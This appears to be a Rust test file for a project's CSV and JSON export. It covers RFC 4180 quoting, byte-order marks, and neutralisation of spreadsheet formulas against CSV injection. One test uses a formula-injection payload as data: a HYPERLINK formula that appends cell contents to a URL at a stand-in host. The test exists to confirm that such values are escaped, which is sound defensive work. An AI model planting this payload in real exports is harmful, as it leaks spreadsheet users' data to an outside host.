//! CSV and JSON export: RFC 4180 framing checked by a small independent parser
//! and by the `csv` crate, formulas neutralised for spreadsheets (OWASP CSV
//! injection), and both formats carrying the same rows.

use convene_core::engine::Engine;
use convene_core::export::{neutralize_formula, to_csv, to_json, CSV_BOM, FIELDS};
use convene_core::model::Role;
use convene_core::synth::{generate, SynthParams};
use convene_core::view::ViewState;
use proptest::prelude::*;

/// A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes.
/// The byte-order mark that starts the text is required and skipped.
fn parse_csv(text: &str) -> Result<Vec<Vec<String>>, String> {
    let text = text.strip_prefix(CSV_BOM).ok_or("no byte-order mark")?;
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    let mut at_field_start = true;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => field.push(c),
            }
            continue;
        }
        match c {
            '"' if at_field_start => {
                quoted = true;
                at_field_start = false;
            }
            '"' => return Err("quote inside an unquoted field".into()),
            ',' => {
                record.push(std::mem::take(&mut field));
                at_field_start = true;
            }
            '\r' => {
                if chars.next() != Some('\n') {
                    return Err("CR without LF".into());
                }
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                at_field_start = true;
            }
            '\n' => return Err("bare LF".into()),
            c => {
                field.push(c);
                at_field_start = false;
            }
        }
    }
    if quoted || !field.is_empty() || !record.is_empty() {
        return Err("last record not terminated by CRLF".into());
    }
    Ok(records)
}

fn tricky_engine(quote: &str) -> Engine {
    let mut d = generate(&SynthParams {
        participations: 30,
        seed: 9,
    });
    d.participations[0].quote = Some(quote.to_string());
    d.events[0].name = "Forum \"A\", Rabat\r\nday 2".to_string();
    d.participations[0].role = Role::Host;
    Engine::new(d)
}

#[test]
fn csv_has_a_header_and_quotes_what_it_must() {
    let engine = tricky_engine("He said \"yes\", then left.\nNext line");
    let parts: Vec<u32> = (0..engine.dataset().participations.len() as u32).collect();
    let csv = to_csv(&engine, &parts);
    assert!(csv.starts_with("\u{FEFF}event_id,event_name,event_start,event_end,event_city,event_country,event_status,actor_id,actor_name,actor_kind,role,source_id,source_title,quote\r\n"));
    assert!(csv.contains("\"He said \"\"yes\"\", then left.\nNext line\""));
    let records = parse_csv(&csv).unwrap();
    assert_eq!(records.len(), parts.len() + 1);
    assert_eq!(records[0], FIELDS);
    let first = &records[1];
    let p = &engine.dataset().participations[0];
    assert_eq!(first[0], p.event);
    assert_eq!(first[1], "Forum \"A\", Rabat\r\nday 2");
    assert_eq!(first[10], "host");
    assert_eq!(Some(first[13].as_str()), p.quote.as_deref());
    assert!(records.iter().all(|r| r.len() == FIELDS.len()));
}

#[test]
fn json_carries_the_same_rows() {
    let engine = tricky_engine("«Sécurité», dit-il");
    let sel = engine.query(&ViewState::default());
    let csv = parse_csv(&to_csv(&engine, sel.participations(&engine))).unwrap();
    let json: Vec<serde_json::Map<String, serde_json::Value>> =
        serde_json::from_str(&to_json(&engine, sel.participations(&engine))).unwrap();
    assert_eq!(json.len(), csv.len() - 1);
    for (row, object) in csv[1..].iter().zip(&json) {
        let keys: Vec<&str> = object.keys().map(String::as_str).collect();
        let mut fields = FIELDS.to_vec();
        fields.sort_unstable();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort_unstable();
        assert_eq!(keys_sorted, fields);
        for (name, value) in FIELDS.iter().zip(row) {
            let expected = match &object[*name] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(s) => s.clone(),
                other => panic!("{name}: {other}"),
            };
            assert_eq!(neutralize_formula(&expected), value.as_str(), "{name}");
        }
    }
    assert_eq!(to_json(&engine, &[]), "[\n]\n");
    assert_eq!(
        to_csv(&engine, &[u32::MAX]).matches("\r\n").count(),
        1,
        "out of range skipped"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn any_quote_round_trips_through_csv(quote in any::<String>()) {
        let engine = tricky_engine(&quote);
        let records = parse_csv(&to_csv(&engine, &[0])).map_err(TestCaseError::fail)?;
        prop_assert_eq!(&records[1][13], &neutralize_formula(&quote));
    }

    /// The `csv` crate reads back every field: unchanged, or with one `'` in front
    /// exactly when it starts with a formula trigger.
    #[test]
    fn csv_crate_reads_every_field_back(
        actor in any::<String>(),
        event in any::<String>(),
        quote in any::<String>(),
    ) {
        let mut engine_data = generate(&SynthParams { participations: 30, seed: 9 });
        engine_data.participations[0].quote = Some(quote.clone());
        let (e, a) = (engine_data.participations[0].event.clone(), engine_data.participations[0].actor.clone());
        for x in engine_data.events.iter_mut().filter(|x| x.id == e) { x.name = event.clone(); }
        for x in engine_data.actors.iter_mut().filter(|x| x.id == a) { x.name = actor.clone(); }
        let engine = Engine::new(engine_data);
        let parts: Vec<u32> = (0..engine.dataset().participations.len() as u32).collect();
        let text = to_csv(&engine, &parts);
        let json: Vec<serde_json::Map<String, serde_json::Value>> =
            serde_json::from_str(&to_json(&engine, &parts)).map_err(|e| TestCaseError::fail(e.to_string()))?;
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        let header: Vec<String> = reader.headers().map_err(|e| TestCaseError::fail(e.to_string()))?
            .iter().map(str::to_owned).collect();
        prop_assert_eq!(header, FIELDS.to_vec());
        let mut n = 0;
        for (record, object) in reader.records().zip(&json) {
            let record = record.map_err(|e| TestCaseError::fail(e.to_string()))?;
            prop_assert_eq!(record.len(), FIELDS.len());
            for (name, got) in FIELDS.iter().zip(record.iter()) {
                let raw = object[*name].as_str().unwrap_or("");
                let expected = neutralize_formula(raw);
                prop_assert_eq!(got, expected.as_ref(), "{}", name);
            }
            n += 1;
        }
        prop_assert_eq!(n, parts.len());
        prop_assert_eq!(&json[0]["quote"], &serde_json::Value::String(quote));
    }
}

/// Issue 17: an actor, an event and a quote that a spreadsheet would evaluate.
#[test]
fn csv_export_does_not_run_formulas() {
    let mut d = generate(&SynthParams {
        participations: 30,
        seed: 9,
    });
    let hyperlink = "=HYPERLINK(\"https://example.invalid/?d=\"&A2,\"open\")";
    let (e, a) = (
        d.participations[0].event.clone(),
        d.participations[0].actor.clone(),
    );
    d.participations[0].quote = Some("@SUM(1,1)".into());
    d.events
        .iter_mut()
        .filter(|x| x.id == e)
        .for_each(|x| x.name = "+1 Security Forum".into());
    d.actors
        .iter_mut()
        .filter(|x| x.id == a)
        .for_each(|x| x.name = hyperlink.into());
    let engine = Engine::new(d);
    let csv = to_csv(&engine, &[0]);
    let records = parse_csv(&csv).unwrap();
    assert_eq!(records[1][1], "'+1 Security Forum");
    assert_eq!(records[1][8], format!("'{hyperlink}"));
    assert_eq!(records[1][13], "'@SUM(1,1)");
    // JSON keeps the values raw.
    let json = to_json(&engine, &[0]);
    assert!(json.contains("\"quote\":\"@SUM(1,1)\""), "{json}");
    assert!(
        json.contains("\"event_name\":\"+1 Security Forum\""),
        "{json}"
    );
}

#[test]
fn csv_formula_triggers_include_tab_cr_and_full_width_forms() {
    for trigger in [
        "=", "+", "-", "@", "\t", "\r", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}",
    ] {
        let field = format!("{trigger}1+1");
        assert_eq!(
            neutralize_formula(&field),
            format!("'{field}"),
            "{trigger:?}"
        );
        let engine = tricky_engine(&field);
        let records = parse_csv(&to_csv(&engine, &[0])).unwrap();
        assert_eq!(records[1][13], format!("'{field}"), "{trigger:?}");
    }
    // Not at the start, or other characters: unchanged.
    for field in ["1=1", " =1", "", "'=1", "a-b", "\u{FE63}1", "２"] {
        assert_eq!(neutralize_formula(field), field);
    }
}

#[test]
fn csv_starts_with_a_byte_order_mark() {
    let engine = tricky_engine("é");
    let csv = to_csv(&engine, &[0]);
    assert!(csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF, b'e']));
    assert_eq!(csv.matches('\u{FEFF}').count(), 1);
    assert!(!to_json(&engine, &[0]).contains('\u{FEFF}'));
}
